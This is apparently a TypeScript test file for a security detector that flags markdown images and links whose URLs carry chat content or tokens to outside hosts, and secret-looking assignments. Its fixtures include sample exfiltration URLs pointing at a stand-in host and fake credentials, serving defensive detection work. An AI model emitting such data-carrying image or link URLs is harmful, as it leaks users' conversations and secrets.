import { describe, expect, it } from "vitest";
import { compileDetector, MessageScan } from "../../src/guardian/detectors/index.js";
import { loadRules } from "../../src/guardian/rules/load.js";

const run = (spec: Parameters<typeof compileDetector>[0], text: string) => {
  const d = compileDetector(spec);
  if (typeof d === "string") throw new Error(d);
  return new MessageScan({ jsonrpc: "2.0", id: 1, result: { content: [{ type: "text", text }] } }, "srv", null).run(d);
};
const spans = (spec: Parameters<typeof compileDetector>[0], text: string) => run(spec, text).map((d) => `${d.type} ${text.slice(d.start, d.end)}`);

describe("exfiltration: images and links whose URL carries data", () => {
  it("the finding is the URL alone, typed image or link", () => {
    expect(spans("exfiltration", "a ![x](https://e.io/p.png?d={{chat}} \"t\") b [y](https://e.io/?k=$TOKEN) c")).toEqual([
      "exfiltration.image https://e.io/p.png?d={{chat}}",
      "exfiltration.link https://e.io/?k=$TOKEN",
    ]);
    expect(spans("exfiltration", '<img width=1 src="https://e.io/a?x=<secret>">')).toEqual(["exfiltration.image https://e.io/a?x=<secret>"]);
  });

  it("the allow list is configurable, and replaces the default", () => {
    const text = "![x](https://img.shields.io/p?d={{chat}}) ![y](https://cdn.acme.dev/p?d={{chat}})";
    expect(spans("exfiltration", text)).toEqual(["exfiltration.image https://cdn.acme.dev/p?d={{chat}}"]);
    expect(spans({ exfiltration: { allow: ["*.acme.dev"] } }, text)).toEqual(["exfiltration.image https://img.shields.io/p?d={{chat}}"]);
    const { problems } = loadRules([{ file: "r.yaml", text: "name: r\nrules:\n  - { id: x, detect: [{ exfiltration: { allow: [a.io] } }], decision: deny }\n" }]);
    expect(problems).toEqual([]);
  });

  it("ordinary images and links are not findings", () => {
    expect(run("exfiltration", "[![CI](https://ci.example.com/badge.svg?branch=main)](https://ci.example.com) ![](./a.png) [docs](https://docs.example.com/guide?lang=en)")).toEqual([]);
  });

  it("pathological input ends (bounded look-backs, no nested quantifiers)", () => {
    for (const text of ["](".repeat(50_000), "[".repeat(50_000) + "](https://e.io/?d={{x}})", "<img " + "a".repeat(100_000), "\n[a]: //".repeat(20_000)]) {
      expect(Array.isArray(run("exfiltration", text))).toBe(true);
    }
  });
});

describe("secret_assignment: secret-named assignments with random-looking values", () => {
  it("the finding is the value alone, in every assignment style", () => {
    expect(spans("secret_assignment", 'DB_PASSWORD=Xk8#mQ2vLp9!rT4z\nclient_secret: "9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e"\n{"apiKey": "hJ8kL2mN4pQ6rS8tV0wX2yZ4"}')).toEqual([
      "secrets.assignment Xk8#mQ2vLp9!rT4z",
      "secrets.assignment 9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e",
      "secrets.assignment hJ8kL2mN4pQ6rS8tV0wX2yZ4",
    ]);
  });

  it("names that only contain a vocabulary word, and values that are not secrets, are not findings", () => {
    expect(run("secret_assignment", "tokenizer: cl100k_base\nmonkey=Xk8#mQ2vLp9!rT4z\nauthor: Jane\nkeyboard=Xk8#mQ2vLp9!rT4z\npassword: changeme\nsecret: 123e4567-e89b-12d3-a456-426614174000")).toEqual([]);
    expect(run("secrets", "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")).toEqual([]);
  });

  it("pathological input ends", () => {
    for (const text of ["token".repeat(50_000), "password=" + "a".repeat(100_000), "_key:".repeat(30_000)]) {
      expect(Array.isArray(run("secret_assignment", text))).toBe(true);
    }
  });
});
